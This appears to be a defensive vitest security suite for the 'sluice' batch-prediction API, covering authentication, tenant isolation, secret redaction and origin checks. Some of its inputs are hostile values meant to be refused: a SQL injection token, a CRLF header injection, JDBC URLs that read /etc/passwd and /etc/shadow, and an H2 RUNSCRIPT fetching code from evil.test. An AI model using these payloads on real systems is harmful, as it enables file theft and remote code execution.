import { randomBytes } from 'node:crypto';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { request } from 'node:http';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { ShownJob } from '../../support/api-client.ts';
import { type ApiServer, startApi } from '../../support/api-server.ts';
import { sluice } from '../../support/command-line.ts';
import { PredictionServer } from '../../support/prediction-server.ts';

const SECRET = `s3cr3t-${randomBytes(12).toString('hex')}`;
const KEY = randomBytes(32).toString('hex');
const tokens = {
  anna: 'token-of-anna',
  bert: 'token-of-bert',
  reader: 'token-of-a-reader-of-anna',
  admin: 'token-of-the-admin',
};
const as = (who: keyof typeof tokens): { readonly headers: { readonly authorization: string } } => ({
  headers: { authorization: `Bearer ${tokens[who]}` },
});

let predictions: PredictionServer;
let api: ApiServer;
beforeAll(async () => {
  predictions = await PredictionServer.start();
  api = await startApi({
    deployments: { flights: predictions.url },
    token: tokens.anna,
    env: { SLUICE_KEY: KEY },
    server: {
      tokens: [
        { token: tokens.anna, user: 'anna', role: 'run' },
        { token: tokens.reader, user: 'anna', role: 'read' },
        { token: tokens.bert, user: 'bert', role: 'run' },
        { token: tokens.admin, user: 'root', role: 'admin' },
      ],
    },
    configuration: {
      credentials: { shared: { awsAccessKeyId: 'AKIA', awsSecretAccessKey: SECRET } },
      dataStores: { warehouse: { jdbcUrl: `jdbc:postgresql://db.inner.test/sales?user=u&password=${SECRET}` } },
    },
  });
});
afterAll(async () => {
  await api[Symbol.asyncDispose]();
  await predictions.close();
});

const status = async (path: string, init: RequestInit = {}): Promise<number> => (await api.request(path, init)).status;

async function finished(): Promise<ShownJob> {
  const job = await api.create({ deploymentId: 'flights' });
  expect((await api.upload(job.id, 'x\n1\n2\n')).status).toBe(202);
  return await api.ended(job.id);
}

describe('without a token that is valid', () => {
  const wrong: readonly (string | undefined)[] = [
    undefined,
    '',
    'Bearer',
    'Bearer ',
    'Bearer nothing',
    `Basic ${Buffer.from('anna:x').toString('base64')}`,
    tokens.anna,
    `Bearer ${tokens.anna}x`,
    `Bearer ${tokens.anna.toUpperCase()}`,
    `Bearer slt_0123456789abcdef_${'A'.repeat(43)}`,
    `Bearer ${"' OR 1=1 --".replaceAll(' ', '+')}`,
    `Bearer ${'x'.repeat(8000)}`,
  ];

  test.each(wrong)('nobody is let in: %s', async (authorization) => {
    for (const [method, path] of [
      ['GET', '/version/'],
      ['GET', '/batchPredictions/'],
      ['POST', '/batchPredictions/'],
      ['GET', '/credentials/'],
      ['DELETE', '/credentials/0123456789abcdef01234567/'],
    ] as const) {
      const reply = await fetch(`${api.base}${path}`, {
        method,
        headers: authorization === undefined ? {} : { authorization },
      });
      expect(reply.status, `${method} ${path}`).toBe(401);
      expect(reply.headers.get('content-type')).toBe('application/json');
      expect(await reply.json()).toHaveProperty('message');
    }
  });

  test('a body is not even read', async () => {
    const endless = new ReadableStream({
      pull: (controller) => controller.enqueue(new Uint8Array(65_536)),
    });
    const reply = await fetch(`${api.base}/batchPredictions/0123456789abcdef01234567/csvUpload/`, {
      method: 'PUT',
      headers: { 'content-type': 'text/csv' },
      body: endless,
      duplex: 'half',
    });
    expect(reply.status).toBe(401);
  });
});

describe('what belongs to another', () => {
  test('is not there, whatever is asked of it', async () => {
    const job = await finished();
    for (const [method, path] of [
      ['GET', ''],
      ['DELETE', ''],
      ['GET', 'download/'],
      ['PUT', 'csvUpload/'],
      ['PUT', 'csvUpload/part/0/'],
      ['POST', 'csvUpload/finalizeMultipart/'],
    ] as const) {
      const init = { method, headers: { ...as('bert').headers, 'content-type': 'text/csv' } };
      const theirs = await api.request(`/batchPredictions/${job.id}/${path}`, init);
      const nobodys = await api.request(`/batchPredictions/${job.id.replace(/.{8}$/, '00000000')}/${path}`, init);
      expect(theirs.status, `${method} ${path}`).toBe(404);
      // Not a word tells one that is another's from one that is not there.
      expect([theirs.status, await theirs.text()]).toEqual([nobodys.status, await nobodys.text()]);
    }
    const json = { ...as('bert').headers, 'content-type': 'application/json' };
    expect(
      await status(`/batchPredictions/${job.id}/`, { method: 'PATCH', headers: json, body: '{"hidden":true}' }),
    ).toBe(404);
    const body = JSON.stringify({ predictionJobId: job.id });
    expect(await status('/batchPredictions/fromExisting/', { method: 'POST', headers: json, body })).toBe(404);
    const list = (await (await api.request('/batchPredictions/', as('bert'))).json()) as { data: ShownJob[] };
    expect(list.data.map(({ id }) => id)).not.toContain(job.id);
    expect(await status(`/batchPredictions/?jobId=${job.id}`, as('bert'))).toBe(200);
  });

  test('is seen by an admin', async () => {
    const job = await finished();
    expect(await status(`/batchPredictions/${job.id}/`, as('admin'))).toBe(200);
    const list = (await (await api.request('/batchPredictions/', as('admin'))).json()) as { data: ShownJob[] };
    expect(list.data.map(({ id }) => id)).toContain(job.id);
  });
});

describe('a token that may only read', () => {
  test('looks at the jobs of its user, and changes nothing', async () => {
    const job = await finished();
    expect(await status(`/batchPredictions/${job.id}/`, as('reader'))).toBe(200);
    expect(await status(`/batchPredictions/${job.id}/download/`, as('reader'))).toBe(200);
    for (const [method, path] of [
      ['POST', '/batchPredictions/'],
      ['DELETE', `/batchPredictions/${job.id}/`],
      ['PATCH', `/batchPredictions/${job.id}/`],
      ['PUT', `/batchPredictions/${job.id}/csvUpload/`],
      ['POST', '/batchPredictions/fromExisting/'],
      ['POST', '/credentials/'],
      ['POST', '/externalDataStores/'],
    ] as const)
      expect(await status(path, { method, ...as('reader') }), `${method} ${path}`).toBe(403);
  });
});

describe('credentials', () => {
  const basic = { name: 'warehouse', credentialType: 'basic', user: 'u', password: SECRET };
  const s3 = {
    name: 'bucket',
    credentialType: 's3',
    awsAccessKeyId: 'AKIA',
    awsSecretAccessKey: SECRET,
    awsSessionToken: SECRET,
  };

  test('are made, shown without their secrets, and forgotten', async () => {
    for (const body of [basic, s3]) {
      const made = await api.post('/credentials/', body);
      expect(made.status).toBe(201);
      const shown = (await made.json()) as { credentialId: string };
      expect(Object.keys(shown).toSorted()).toEqual([
        'creationDate',
        'credentialId',
        'credentialType',
        'description',
        'name',
      ]);
      expect(shown).toMatchObject({ name: body.name, credentialType: body.credentialType, description: '' });
      const path = `/credentials/${shown.credentialId}/`;
      expect(await (await api.request(path)).json()).toEqual(shown);
      const list = (await (await api.request('/credentials/')).json()) as { data: object[]; next: null };
      expect(list.next).toBeNull();
      expect(list.data).toContainEqual(shown);
      expect(JSON.stringify(list)).not.toContain(SECRET);
      expect(await status(path, as('bert'))).toBe(404);
      expect(await status(path, { method: 'DELETE', ...as('bert') })).toBe(404);
      expect(await status(path, { method: 'DELETE' })).toBe(204);
      expect(await status(path)).toBe(404);
    }
  });

  test('of the configuration are shown by their name, and stay', async () => {
    const reply = await api.request('/credentials/shared/');
    expect(await reply.json()).toMatchObject({ credentialId: 'shared', credentialType: 's3' });
    expect(await status('/credentials/shared/', { method: 'DELETE' })).toBe(409);
  });

  test("another's cannot be used by their id, nor can it be told that there are such", async () => {
    const { credentialId } = (await (await api.post('/credentials/', s3)).json()) as { credentialId: string };
    const reply = async (id: string, who: keyof typeof tokens): Promise<[number, string]> => {
      const body = JSON.stringify({
        deploymentId: 'flights',
        intakeSettings: { type: 's3', url: 's3://bucket/x.csv', credentialId: id },
      });
      const headers = { ...as(who).headers, 'content-type': 'application/json' };
      const answer = await api.request('/batchPredictions/', { method: 'POST', headers, body });
      return [answer.status, (await answer.text()).replaceAll(id, 'ID')];
    };
    expect((await reply(credentialId, 'anna'))[0]).toBe(202);
    const theirs = await reply(credentialId, 'bert');
    expect(theirs[0]).toBe(422);
    expect(theirs).toEqual(await reply('0123456789abcdef01234567', 'bert'));
    // What an admin may look at he may not spend.
    expect((await reply(credentialId, 'admin'))[0]).toBe(422);
  });

  test('of the configuration are not sent to a database that a user names', async () => {
    const made = await api.post('/externalDataStores/', {
      type: 'jdbc',
      canonicalName: 'mine',
      params: { jdbcUrl: 'jdbc:postgresql://db.example.com/x' },
    });
    expect(made.status).toBe(201);
    const { id } = (await made.json()) as { id: string };
    const reply = await api.post('/batchPredictions/', {
      deploymentId: 'flights',
      intakeSettings: { type: 'jdbc', dataStoreId: id, table: 't', credentialId: 'shared' },
    });
    expect(reply.status).toBe(422);
    expect(await reply.text()).toMatch(/credentials of your own/);
  });

  test('are refused in words that do not repeat them', async () => {
    const wrong = [
      { ...basic, password: [SECRET] },
      { ...basic, password: 4711_0815 },
      { ...s3, awsSecretAccessKey: { text: SECRET } },
      { ...s3, awsSessionToken: 4711_0815 },
      { ...s3, credentialType: 'basic' },
      { ...basic, name: `a\r\nSet-Cookie: ${SECRET}` },
    ];
    for (const body of wrong) {
      const reply = await api.post('/credentials/', body);
      const text = await reply.text();
      expect(reply.status).toBe(422);
      expect(text).not.toContain('47110815');
      expect(text).not.toContain(SECRET);
    }
  });

  test('are refused where the server has no key', async () => {
    await using keyless = await startApi({ deployments: { flights: predictions.url } });
    const reply = await keyless.post('/credentials/', basic);
    expect(reply.status).toBe(422);
    expect(await reply.text()).toMatch(/SLUICE_KEY/);
    for (const intakeSettings of [
      { type: 's3', url: 's3://b/k', credentials: { awsAccessKeyId: 'a', awsSecretAccessKey: SECRET } },
      { type: 'http', url: `https://u:${SECRET}@example.com/x.csv` },
      { type: 'http', url: 'https://example.com/x.csv', headers: { authorization: SECRET } },
    ]) {
      const refused = await keyless.post('/batchPredictions/', { deploymentId: 'flights', intakeSettings });
      const text = await refused.text();
      expect(refused.status).toBe(422);
      expect(text).toMatch(/SLUICE_KEY/);
      expect(text).not.toContain(SECRET);
    }
  });
});

describe('data stores', () => {
  test('of the configuration are shown without what is secret in their address', async () => {
    const text = await (await api.request('/externalDataStores/')).text();
    expect(JSON.parse(text)).toMatchObject({
      next: null,
      data: expect.arrayContaining([
        expect.objectContaining({
          id: 'warehouse',
          type: 'jdbc',
          canonicalName: 'warehouse',
          params: { driverId: 'postgresql', jdbcUrl: 'jdbc:postgresql://db.inner.test:5432/sales' },
        }),
      ]),
    });
    expect(text).not.toContain(SECRET);
    expect(await status('/externalDataStores/warehouse/')).toBe(200);
  });

  test.each([
    'jdbc:sqlite:/etc/passwd',
    "jdbc:h2:file:/tmp/x;INIT=RUNSCRIPT FROM 'http://evil.test/x.sql'",
    `jdbc:postgresql://u:${SECRET}@db.example.com/x`,
    `jdbc:postgresql://db.example.com/x?password=${SECRET}`,
    'jdbc:postgresql://db.example.com/x?ssl=true&sslrootcert=/etc/passwd',
    'jdbc:mysql://db.example.com/x?useSSL=true&serverSslCert=/etc/shadow',
    'jdbc:postgresql:x',
    'jdbc:postgresql://',
    'jdbc:mysql://127.0.0.1/x',
    'jdbc:mysql://[::1]:3306/x',
    'jdbc:postgresql://db.example.com,localhost/x',
    'jdbc:oracle:thin:@//db.example.com:1521/x',
    'http://db.example.com/',
    '',
  ])('may not be %s', async (jdbcUrl) => {
    const reply = await api.post('/externalDataStores/', { canonicalName: 'x', params: { jdbcUrl } });
    const text = await reply.text();
    expect(reply.status).toBe(422);
    expect(text).not.toContain(SECRET);
  });

  test("another's are not there", async () => {
    const made = await api.post('/externalDataStores/', {
      canonicalName: 'mine',
      params: { jdbcUrl: 'jdbc:postgresql://db.example.com/x' },
    });
    const { id } = (await made.json()) as { id: string };
    expect(await status(`/externalDataStores/${id}/`)).toBe(200);
    expect(await status(`/externalDataStores/${id}/`, as('bert'))).toBe(404);
    const body = JSON.stringify({
      deploymentId: 'flights',
      intakeSettings: { type: 'jdbc', dataStoreId: id, table: 't' },
    });
    const headers = { ...as('bert').headers, 'content-type': 'application/json' };
    expect(await status('/batchPredictions/', { method: 'POST', headers, body })).toBe(422);
    expect(await status(`/externalDataStores/${id}/`, { method: 'DELETE' })).toBe(204);
  });
});

describe('a secret in the settings of a job', () => {
  const body = {
    deploymentId: 'flights',
    predictionInstance: { hostName: 'predictions.example.com', apiKey: SECRET, datarobotKey: SECRET },
    intakeSettings: {
      type: 'http',
      url: `https://user:${SECRET}@example.com/in.csv?sig=${SECRET}`,
      headers: { 'x-key': SECRET },
      token: SECRET,
    },
    outputSettings: {
      type: 's3',
      url: 's3://bucket/out.csv',
      credentials: { awsAccessKeyId: 'AKIA', awsSecretAccessKey: SECRET },
      serverSideEncryption: { customerAlgorithm: 'AES256', customerKey: SECRET },
    },
  };

  test('stands in no reply, no log and no file', async () => {
    const made = await api.post('/batchPredictions/', body);
    const text = await made.text();
    expect(made.status).toBe(202);
    const { id } = JSON.parse(text) as ShownJob;
    const replies = [
      text,
      await (await api.request(`/batchPredictions/${id}/`)).text(),
      await (await api.request('/batchPredictions/')).text(),
      await (await api.request(`/batchPredictions/${id}/`, as('admin'))).text(),
      await (await api.request(`/batchPredictions/${id}/`, { method: 'DELETE' })).text(),
    ];
    for (const reply of replies) expect(reply).not.toContain(SECRET);
    expect(api.log.join('\n')).not.toContain(SECRET);
    const configured = join(api.state, 'sluice.json');
    const files = readdirSync(api.state, { recursive: true, withFileTypes: true })
      .filter((entry) => entry.isFile())
      .map((entry) => join(entry.parentPath, entry.name))
      .filter((file) => file !== configured);
    expect(files.length).toBeGreaterThan(0);
    for (const file of files) expect(readFileSync(file).includes(SECRET), file).toBe(false);
  });

  test('can be read by no other user of the machine', () => {
    for (const name of ['server.sqlite', 'jobs']) expect(statSync(join(api.state, name)).mode & 0o077, name).toBe(0);
  });
});

describe('tokens of sluice token', () => {
  test('are seen by a server that runs, and their end too', async () => {
    await using own = await startApi({ deployments: { flights: predictions.url } });
    const env = { SLUICE_STATE: own.state };
    const get = (token?: string): Promise<Response> =>
      fetch(`${own.base}/version/`, token === undefined ? {} : { headers: { authorization: `Token ${token}` } });
    expect((await get()).status).toBe(200);
    const made = await sluice(['token', 'create', '--name', 'nightly', '--owner', 'anna'], { env });
    expect(made.code).toBe(0);
    const token = made.stdout.trim();
    expect(token).toMatch(/^slt_[0-9a-f]{16}_[\w-]{43}$/);
    // The first token closes the server to all who have none.
    expect((await get()).status).toBe(401);
    expect((await get(token)).status).toBe(200);
    const listed = await sluice(['token', 'list', '--json'], { env });
    expect(listed.stdout).not.toContain(token.slice(-43));
    const [{ id } = { id: '' }] = JSON.parse(listed.stdout) as { id: string }[];
    const page = await fetch(`${own.base}/live/events/`, { headers: { authorization: `Token ${token}` } });
    expect(page.status).toBe(200);
    const revoked = await sluice(['token', 'revoke', id], { env });
    expect(revoked.code).toBe(0);
    // A page that is open gets no more of the jobs.
    expect(await page.text()).toContain('event:');
    expect((await get(token)).status).toBe(401);
    // The end of the last one opens nothing.
    expect((await get()).status).toBe(401);
  });
});

describe('addresses in replies', () => {
  test('are what the client reached, and not what it says of a proxy, unless there is one', async () => {
    const forwarded = { 'x-forwarded-host': 'sluice.example.com', 'x-forwarded-proto': 'https' };
    const location = async (behindProxy: boolean): Promise<string | null> => {
      await using own = await startApi({ deployments: { flights: predictions.url }, server: { behindProxy } });
      const headers = { ...forwarded, 'content-type': 'application/json' };
      const reply = await own.request('/batchPredictions/', {
        method: 'POST',
        headers,
        body: '{"deploymentId":"flights"}',
      });
      return reply.headers.get('location');
    };
    expect(await location(false)).toMatch(/^http:\/\/127\.0\.0\.1:/);
    expect(await location(true)).toMatch(/^https:\/\/sluice\.example\.com\/api\/v2\/batchPredictions\//);
  });
});

describe('a server that knows no tokens', () => {
  test('is not for web pages of others', async () => {
    await using own = await startApi({ deployments: { flights: predictions.url } });
    const get = (headers: Record<string, string>): Promise<number> => rawStatus(own.base, '/version/', headers);
    expect(await get({})).toBe(200);
    expect(await get({ host: 'rebound.test' })).toBe(403);
    expect(await get({ origin: 'https://evil.test' })).toBe(403);
    expect(await get({ 'sec-fetch-site': 'cross-site' })).toBe(403);
  });

  test('does not listen where others can reach it', async () => {
    const open = { deployments: { flights: predictions.url }, server: { host: '0.0.0.0' } };
    await expect(startApi(open)).rejects.toMatchObject({ code: 'CONFIG_INVALID' });
  });
});

/** The status of a GET with headers that `fetch` does not let one set. */
async function rawStatus(base: string, path: string, headers: Record<string, string>): Promise<number> {
  const { hostname, port, pathname } = new URL(base);
  return await new Promise((resolve, reject) => {
    const sent = request({ hostname, port, path: `${pathname}${path}`, headers }, (reply) => {
      reply.resume();
      resolve(reply.statusCode ?? 0);
    });
    sent.on('error', reject);
    sent.end();
  });
}
